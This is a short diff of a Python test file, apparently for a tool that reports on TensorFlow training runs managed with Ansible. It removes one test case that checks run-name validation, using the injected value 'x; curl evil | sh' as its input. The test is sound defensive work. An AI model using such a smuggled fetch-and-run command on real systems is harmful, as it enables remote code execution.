@@ -129,12 +129,6 @@ MOVED = {**PLAN, "hash": "bbb", "tasks": [PLAN["tasks"][0], {**PLAN["tasks"][1],
             "run r0 is going on (ps0 on n1, server7 on n3): watch it with ansible-playbook train.yml "
             "-e run_id=r0, or end it with ansible-playbook stop.yml",
         ),
-        (
-            {"n1": found("ps0", alive=True, run_id="x; curl evil | sh")},
-            Folder(),
-            "a host names the run 'x; curl evil | sh'; expected lower case letters, digits and dashes, at "
-            "most 63, with a letter or digit first (ps0 on n1)",
-        ),
         # Of a bare host nothing is said of its version.
         (
             {"n1": found("ps0", deployed={}, tensorflow="")},
